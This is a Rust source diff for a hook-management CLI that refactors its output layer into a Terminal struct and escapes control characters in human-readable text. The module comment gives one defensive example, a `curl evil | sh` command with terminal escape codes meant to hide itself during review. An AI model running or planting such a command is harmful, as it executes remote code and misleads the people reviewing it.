@@ -1,5 +1,7 @@
-//! The bottom of everything `hook` prints (the [`Printer`](super::Printer) writes through it): text for a person has its control characters
-//! escaped, and a closed stdout ends the command quietly instead of panicking.
+//! The bottom of everything `hook` prints (the [`Printer`](super::Printer) writes through it):
+//! [`Terminal`], the stdout and stderr a command is given (the process's, or an in-process
+//! test's buffers); text for a person has its control characters escaped, and a closed stdout
+//! ends the command quietly instead of panicking.
 //!
 //! Why escape: `hook list` is the review before `hook trust`. A command such as
 //! `curl evil | sh \x1b[2K\r  [Bash] command ./lint.sh` would otherwise erase itself on a
@@ -9,6 +11,7 @@
 //! configs) is printed exactly: JSON encoders escape control characters themselves.
 
 use std::borrow::Cow;
+use std::cell::RefCell;
 use std::fmt::Write as _;
 use std::io::{self, IsTerminal as _, Write};
 
@@ -44,141 +47,126 @@ pub(crate) fn one_line(text: &str) -> Cow<'_, str> {
     Cow::Owned(escaped)
 }
 
-/// Writes human text and a newline to stdout.
-pub(crate) fn print_text(text: &str) {
-    print_exact(&format!("{}\n", one_line(text)));
+/// Where a command's output goes: its stdout and stderr, and whether each is a terminal.
+/// `main` builds it from the process's own streams ([`Terminal::process`]); the in-process
+/// tests from buffers they read afterwards ([`Terminal::new`]). The [`Printer`](super::Printer)
+/// owns it and is the only one writing through it.
+pub(crate) struct Terminal {
+    stdout: RefCell<Box<dyn Write>>,
+    stderr: RefCell<Box<dyn Write>>,
+    stdout_is_terminal: bool,
+    stderr_is_terminal: bool,
+    /// Whether stdout is this process's descriptor 1, which [`Terminal::close_stdout`] points
+    /// at `/dev/null`.
+    #[cfg_attr(not(unix), allow(dead_code))]
+    stdout_is_fd1: bool,
 }
 
-/// Writes human text and a newline to stderr. A closed stderr is ignored:
-/// there is nowhere left to say anything.
-pub(crate) fn eprint_text(text: &str) {
-    #[cfg(test)]
-    if capture::write(capture::Stream::Stderr, &format!("{}\n", one_line(text))) {
-        return;
-    }
-    let _ = writeln!(io::stderr().lock(), "{}", one_line(text));
-}
-
-/// Writes machine output (JSON, a schema, a converted config) to stdout exactly as given.
-pub(crate) fn print_exact(text: &str) {
-    #[cfg(test)]
-    if capture::write(capture::Stream::Stdout, text) {
-        return;
-    }
-    let mut stdout = io::stdout().lock();
-    if let Err(error) = stdout
-        .write_all(text.as_bytes())
-        .and_then(|()| stdout.flush())
-    {
-        closed_stdout(&error);
-    }
-}
-
-/// Writes machine output and a newline to stdout exactly.
-pub(crate) fn println_exact(text: &str) {
-    print_exact(&format!("{text}\n"));
-}
-
-/// Whether stdout is a terminal (never while an in-process test keeps what is printed: its
-/// stdout is then a string).
-pub(crate) fn stdout_is_terminal() -> bool {
-    #[cfg(test)]
-    if capture::active() {
-        return false;
-    }
-    io::stdout().is_terminal()
-}
-
-/// Whether stderr is a terminal (never while an in-process test keeps what is printed).
-pub(crate) fn stderr_is_terminal() -> bool {
-    #[cfg(test)]
-    if capture::active() {
-        return false;
-    }
-    io::stderr().is_terminal()
-}
-
-/// Ends stdout: flushes it, then points file descriptor 1 at `/dev/null`, so a reader waiting
-/// for the end of our output gets it now while the process goes on (`hook run` with async
-/// hooks still running). Later writes to stdout go nowhere.
-pub(crate) fn close_stdout() {
-    #[cfg(test)]
-    if capture::write(capture::Stream::Stdout, "") {
-        return;
-    }
-    let _ = io::stdout().lock().flush();
-    #[cfg(unix)]
-    if let Ok(null) = std::fs::OpenOptions::new().write(true).open("/dev/null") {
-        use std::os::fd::AsRawFd as _;
-        // SAFETY: both descriptors are open for the duration of the call; dup2 replaces fd 1
-        // atomically and `null` is closed on drop, fd 1 keeping its own reference.
-        #[allow(unsafe_code)]
-        unsafe {
-            libc::dup2(null.as_raw_fd(), libc::STDOUT_FILENO);
+impl Terminal {
+    /// The process's own stdout and stderr.
+    pub(crate) fn process() -> Terminal {
+        Terminal {
+            stdout_is_terminal: io::stdout().is_terminal(),
+            stderr_is_terminal: io::stderr().is_terminal(),
+            stdout_is_fd1: true,
+            ..Terminal::new(io::stdout(), io::stderr())
         }
     }
-}
 
-/// A reader of our output went away (`hook list | head -1`): stop quietly, as other Unix tools
-/// do. Any other write error is reported once on stderr.
-fn closed_stdout(error: &io::Error) -> ! {
-    if error.kind() != io::ErrorKind::BrokenPipe {
-        let _ = writeln!(
-            io::stderr().lock(),
-            "error: cannot write to stdout: {error}"
-        );
-        std::process::exit(1);
-    }
-    std::process::exit(0);
-}
-
-/// In-process tests: what a command prints on this thread, kept instead of written.
-#[cfg(test)]
-pub(crate) mod capture {
-    use std::cell::RefCell;
-
-    /// Which stream.
-    pub(crate) enum Stream {
-        Stdout,
-        Stderr,
+    /// `stdout` and `stderr`, neither of them a terminal.
+    pub(crate) fn new(stdout: impl Write + 'static, stderr: impl Write + 'static) -> Terminal {
+        Terminal {
+            stdout: RefCell::new(Box::new(stdout)),
+            stderr: RefCell::new(Box::new(stderr)),
+            stdout_is_terminal: false,
+            stderr_is_terminal: false,
+            stdout_is_fd1: false,
+        }
     }
 
-    /// What was printed.
-    #[derive(Debug, Default)]
-    pub(crate) struct Captured {
-        pub(crate) stdout: String,
-        pub(crate) stderr: String,
+    /// Whether stdout is a terminal.
+    pub(crate) fn stdout_is_terminal(&self) -> bool {
+        self.stdout_is_terminal
     }
 
-    thread_local! {
-        static CAPTURED: RefCell<Option<Captured>> = const { RefCell::new(None) };
+    /// Whether stderr is a terminal.
+    pub(crate) fn stderr_is_terminal(&self) -> bool {
+        self.stderr_is_terminal
     }
 
-    /// Keeps `text` when this thread is capturing; whether it did.
-    pub(super) fn write(stream: Stream, text: &str) -> bool {
-        CAPTURED.with_borrow_mut(|captured| match captured {
-            Some(captured) => {
-                match stream {
-                    Stream::Stdout => captured.stdout.push_str(text),
-                    Stream::Stderr => captured.stderr.push_str(text),
-                }
-                true
+    /// Writes human text and a newline to stdout.
+    pub(crate) fn print_text(&self, text: &str) {
+        self.print_exact(&format!("{}\n", one_line(text)));
+    }
+
+    /// Writes human text and a newline to stderr, in one write. A closed stderr is ignored:
+    /// there is nowhere left to say anything.
+    pub(crate) fn eprint_text(&self, text: &str) {
+        let line = format!("{}\n", one_line(text));
+        let _ = self.stderr.borrow_mut().write_all(line.as_bytes());
+    }
+
+    /// Writes machine output (JSON, a schema, a converted config) to stdout exactly as given.
+    pub(crate) fn print_exact(&self, text: &str) {
+        let written = {
+            let mut stdout = self.stdout.borrow_mut();
+            stdout
+                .write_all(text.as_bytes())
+                .and_then(|()| stdout.flush())
+        };
+        if let Err(error) = written {
+            self.closed_stdout(&error);
+        }
+    }
+
+    /// Writes machine output and a newline to stdout exactly.
+    pub(crate) fn println_exact(&self, text: &str) {
+        self.print_exact(&format!("{text}\n"));
+    }
+
+    /// Ends stdout: flushes it, and from then on what is written to it goes nowhere. When it
+    /// is the process's, file descriptor 1 is pointed at `/dev/null`, so a reader waiting for
+    /// the end of our output gets it now while the process goes on (`hook run` with async
+    /// hooks still running).
+    pub(crate) fn close_stdout(&self) {
+        let mut stdout = self.stdout.borrow_mut();
+        let _ = stdout.flush();
+        *stdout = Box::new(io::sink());
+        #[cfg(unix)]
+        if self.stdout_is_fd1
+            && let Ok(null) = std::fs::OpenOptions::new().write(true).open("/dev/null")
+        {
+            use std::os::fd::AsRawFd as _;
+            // SAFETY: both descriptors are open for the duration of the call; dup2 replaces fd 1
+            // atomically and `null` is closed on drop, fd 1 keeping its own reference.
+            #[allow(unsafe_code)]
+            unsafe {
+                libc::dup2(null.as_raw_fd(), libc::STDOUT_FILENO);
             }
-            None => false,
-        })
+        }
     }
 
-    /// Whether this thread is capturing.
-    pub(super) fn active() -> bool {
-        CAPTURED.with_borrow(Option::is_some)
+    /// A reader of our output went away (`hook list | head -1`): stop quietly, as other Unix
+    /// tools do. Any other write error is reported once on stderr.
+    fn closed_stdout(&self, error: &io::Error) -> ! {
+        if error.kind() != io::ErrorKind::BrokenPipe {
+            let _ = writeln!(
+                self.stderr.borrow_mut(),
+                "error: cannot write to stdout: {error}"
+            );
+            std::process::exit(1);
+        }
+        std::process::exit(0);
     }
+}
 
-    /// Runs `f`, keeping what it prints on this thread.
-    pub(crate) fn capture<T>(f: impl FnOnce() -> T) -> (T, Captured) {
-        CAPTURED.with_borrow_mut(|captured| *captured = Some(Captured::default()));
-        let value = f();
-        let captured = CAPTURED.with_borrow_mut(Option::take).unwrap_or_default();
-        (value, captured)
+impl std::fmt::Debug for Terminal {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Terminal")
+            .field("stdout_is_terminal", &self.stdout_is_terminal)
+            .field("stderr_is_terminal", &self.stderr_is_terminal)
+            .field("stdout_is_fd1", &self.stdout_is_fd1)
+            .finish_non_exhaustive()
     }
 }
 
